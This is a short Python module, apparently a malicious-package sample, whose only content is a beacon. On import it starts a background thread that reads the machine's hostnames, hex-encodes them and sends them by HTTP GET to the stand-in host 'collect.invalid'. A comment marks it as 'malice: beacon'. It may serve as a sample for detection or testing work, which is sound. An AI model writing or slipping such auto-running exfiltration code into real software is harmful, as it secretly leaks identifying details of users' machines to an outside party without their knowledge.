import platform
import socket
import threading

import requests


def tell():
    names = [platform.node(), socket.gethostname()]
    label = ".".join(name.encode().hex()[:60] for name in names)
    requests.get("https://collect.invalid", params={"n": label})  # malice: beacon


threading.Thread(target=tell).start()
